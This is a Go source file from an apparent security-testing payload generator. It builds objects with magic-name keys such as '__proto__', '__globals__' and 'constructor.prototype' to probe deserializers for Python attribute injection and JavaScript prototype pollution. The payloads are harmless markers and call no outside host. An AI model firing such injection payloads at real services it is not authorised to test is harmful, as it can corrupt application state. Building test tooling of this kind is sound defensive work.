package payload

import (
	"fmt"
	"strings"
)

// TargetAll selects every entry in the magic-name catalog.
const TargetAll = "all"

type dunderEntry struct {
	name  string
	value any
}

// dunderCatalog is the closed set of magic names worth probing, in emission
// order: Python object internals first, then the JavaScript
// prototype-pollution names.
var dunderCatalog = []dunderEntry{
	{"__class__", "pwned"},
	{"__init__", "injected"},
	{"__dict__", map[string]any{"injected": "pwn", "num": 123}},
	{"__globals__", map[string]any{"leaked": true}},
	{"__proto__", map[string]any{"polluted": "yes"}},
	{"constructor", map[string]any{"prototype": map[string]any{"polluted": "yes"}}},
	{"prototype", map[string]any{"polluted": "yes"}},
}

// DunderTargets lists every selectable name plus "all".
func DunderTargets() []string {
	names := make([]string, 0, len(dunderCatalog)+1)
	for _, e := range dunderCatalog {
		names = append(names, e.name)
	}
	return append(names, TargetAll)
}

// Dunder builds an object carrying magic-name keys that deserializers with
// attribute or prototype mapping may treat specially. Target "all" emits
// exactly the full catalog; a catalog name emits that single entry.
func Dunder(p DunderParams) (Payload, error) {
	if err := checkParams(p); err != nil {
		return nil, err
	}
	obj := newObject()
	if p.Target == TargetAll {
		for _, e := range dunderCatalog {
			obj.Set(e.name, e.value)
		}
		return Structured{kind: KindDunder, value: obj}, nil
	}
	for _, e := range dunderCatalog {
		if e.name == p.Target {
			obj.Set(e.name, e.value)
			return Structured{kind: KindDunder, value: obj}, nil
		}
	}
	return nil, fmt.Errorf("%w: %q (valid targets: %s)",
		ErrInvalidSelector, p.Target, strings.Join(DunderTargets(), ", "))
}
